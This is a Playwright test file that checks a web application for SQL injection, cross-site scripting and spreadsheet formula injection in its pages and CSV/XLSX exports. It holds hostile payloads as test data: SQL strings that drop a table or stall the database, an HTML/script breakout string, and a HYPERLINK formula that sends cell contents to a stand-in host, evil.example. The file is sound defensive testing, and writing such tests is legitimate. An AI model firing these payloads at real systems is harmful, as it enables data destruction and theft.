import { expect, test } from '@playwright/test';
import { parse } from 'csv-parse/sync';
import { readZip } from '#lib/tables/zip.ts';
import { addressOf } from '../product/addresses.ts';
import { callersOf, UNIT, type CallerName } from '../product/callers.ts';
import { asOwner } from '../product/owner.ts';
import {
	freePort,
	makeDataDir,
	removeDataDir,
	startProduct,
	type Product
} from '../product/product.ts';
import { everyRoute } from '../product/routes.ts';
import { typeEverywhere } from '../product/typed-everywhere.ts';

// What people typed stays text: on every page, in every file, in every address.
let product: Product;
let headers: Record<CallerName, Record<string, string>>;
let dataDir: string;
/** Things that there are, for the parts of addresses. */
let known: Record<string, string>;

test.beforeAll(async () => {
	dataDir = makeDataDir();
	product = await startProduct({ dataDir, port: await freePort() });
	headers = await callersOf(dataDir);
	known = await asOwner(dataDir, async (sql) => {
		const [row] = await sql`select (select slip_id from app.citizen_case limit 1) as slip,
			(select id from app.index_evidence limit 1) as evidence`;
		return Object.fromEntries(
			Object.entries(row ?? {}).flatMap(([name, value]) => (value ? [[name, String(value)]] : []))
		);
	});
});
test.afterAll(async () => {
	await product.stop();
	removeDataDir(dataDir);
});
test.describe.configure({ mode: 'serial', timeout: 180_000 });

const opened = everyRoute().filter(
	({ kind, methods }) => kind === 'page' || methods.includes('GET')
);
const pages = opened.filter(({ kind }) => kind === 'page');
const get = (path: string, who: CallerName = 'operator') =>
	fetch(`${product.url}${path}`, { headers: { ...headers[who], accept: 'text/html' } });

/** Words of everything that can be asked for in an address, as the sources read them. */
const PARAMETERS = [
	...[
		'unit',
		'period',
		'quarter',
		'from',
		'to',
		'field',
		'counter',
		'channel',
		'stage',
		'level',
		'reason'
	],
	...[
		'officer',
		'mark',
		'counted',
		'text',
		'words',
		'before',
		'year',
		'table',
		'lang',
		'next',
		'kind',
		'who'
	],
	...[
		'action',
		'state',
		'owner',
		'cursor',
		'after',
		'page',
		'theme',
		'compare',
		'role',
		'id',
		'of',
		'code'
	]
];
const SQL = [
	"' or '1'='1",
	"'; drop table app.slip; --",
	"\\'; select pg_sleep(9); --",
	'$$;select 1;$$',
	"%' union select null--",
	'\u0000',
	'𝟙'
];

test('nothing that an address asks for reaches the database as a command', async () => {
	const slips = () =>
		asOwner(dataDir, async (sql) => (await sql`select count(*)::int as n from app.slip`)[0]!.n);
	const before: number = await slips();
	const wrong: string[] = [];
	const ask = async (path: string) => {
		const started = performance.now();
		const answer = await get(path);
		const body = await answer.text();
		if (answer.status >= 500) wrong.push(`${path}: ${answer.status}`);
		if (/syntax error|PostgresError|at or near|PT\d{3}/.test(body))
			wrong.push(`${path}: tells of SQL`);
		if (performance.now() - started > 8_000) wrong.push(`${path}: waits`);
	};
	for (const route of opened) {
		const names = [...route.path.matchAll(/\[(?:\.\.\.)?(\w+)\]/g)].map(([, name]) => name!);
		for (const bad of SQL) {
			const query = new URLSearchParams(PARAMETERS.map((name) => [name, bad]));
			query.set('unit', UNIT);
			query.delete('period');
			query.delete('quarter');
			await ask(`${addressOf(route, known)}?${query}`);
			for (const name of names)
				await ask(
					`${addressOf(route, { ...known, [name]: encodeURIComponent(bad) })}?unit=${UNIT}`
				);
		}
	}
	expect(wrong).toEqual([]);
	expect(await slips()).toBe(before);
});

test('an odd filter finds no more than none: the list of slips is not opened by it', async () => {
	const rows = async (query: string) =>
		parse(await (await get(`/desk/slips/slips.csv?unit=${UNIT}&${query}`, 'officer')).text(), {
			bom: true
		}).length as number;
	const own = await rows('');
	for (const name of ['field', 'counter', 'channel', 'reason', 'officer', 'words', 'mark'])
		expect(await rows(`${name}=${encodeURIComponent("x' or '1'='1")}`), name).toBeLessThanOrEqual(
			own
		);
});

test('what somebody typed is text on every page, with its script and without', async ({ page }) => {
	const MARK = 'hl-slipped';
	const typed = `"'>-->]]></title></script></style></textarea><${MARK} onclick="x">`;
	const columns = await typeEverywhere(dataDir, typed);
	// Where people's words lie in the sample: the names of places, comments, reports, people.
	expect(columns).toEqual(
		expect.arrayContaining(['field.name', 'counter.name', 'slip_follow_up.comment', 'unit.name'])
	);
	const wrong: string[] = [];
	let shown = 0;
	for (const who of ['anon', 'administrator', 'officer'] as const)
		for (const route of pages)
			for (const lang of ['vi', 'en']) {
				const answer = await get(`${addressOf(route, known)}?unit=${UNIT}&lang=${lang}`, who);
				const body = await answer.text();
				if (answer.status >= 500) wrong.push(`${who} ${route.path}: ${answer.status}`);
				if (body.includes(`<${MARK}`)) wrong.push(`${who} ${route.path}: runs what was typed`);
				if (body.includes(`&lt;${MARK}`)) shown += 1;
			}
	expect(shown).toBeGreaterThan(30);

	await page.context().setExtraHTTPHeaders({});
	const [name, value] = headers.administrator.cookie!.split('=') as [string, string];
	await page.context().addCookies([{ name, value, url: product.url }]);
	for (const route of pages) {
		await page.goto(`${product.url}${addressOf(route, known)}?unit=${UNIT}`);
		await page.waitForLoadState('load');
		if (await page.locator(MARK).count())
			wrong.push(`${route.path}: its script draws what was typed`);
	}
	expect(wrong).toEqual([]);
});

const FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")';
for (const begin of ['=', '+', '-', '@', '\t=', '\r=', '＝', ' =', '"=', ';='])
	test(`no file runs what was typed after ${JSON.stringify(begin)}`, async () => {
		await typeEverywhere(dataDir, `${begin}${FORMULA.slice(1)}`);
		const wrong: string[] = [];
		let files = 0;
		const download = async (path: string) => {
			const answer = await get(path);
			const type = answer.headers.get('content-type') ?? '';
			if (answer.status !== 200) return;
			if (type.startsWith('text/csv')) {
				files += 1;
				for (const cell of cellsOf(await answer.text()))
					if (isLive(cell)) wrong.push(`${path}: ${JSON.stringify(cell.slice(0, 40))}`);
			} else if (type.includes('spreadsheetml')) {
				files += 1;
				const zip = await readZip(await answer.blob());
				for (const part of zip.names.filter((one) => /sheet\d+\.xml$/.test(one))) {
					const xml = await new Response(zip.stream(part)).text();
					if (/<f[ >]|t="str"/.test(xml)) wrong.push(`${path}: a formula in ${part}`);
				}
			}
		};
		for (const route of opened.filter(({ kind }) => kind === 'answer')) {
			const formats = route.path.includes('[format]') ? ['csv', 'xlsx'] : [''];
			for (const format of formats)
				await download(
					`${addressOf(route, { ...known, ...(format ? { format } : {}) })}?unit=${UNIT}&period=2026`
				);
		}
		expect(files).toBeGreaterThan(7);
		expect(wrong).toEqual([]);
	});

/** The cells, parted as either kind of spreadsheet does. */
const cellsOf = (text: string) =>
	[',', ';']
		.flatMap(
			(delimiter) =>
				parse(text, {
					...{ delimiter, bom: true, relax_column_count: true, relax_quotes: true }
				}) as string[][]
		)
		.flat();
/** What a spreadsheet takes for a formula; a number with its sign is none. */
const isLive = (cell: string) =>
	/^[\s\p{Cf}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell) &&
	!/^[+\-−]?[\d.,]+%?$/.test(cell.trim());
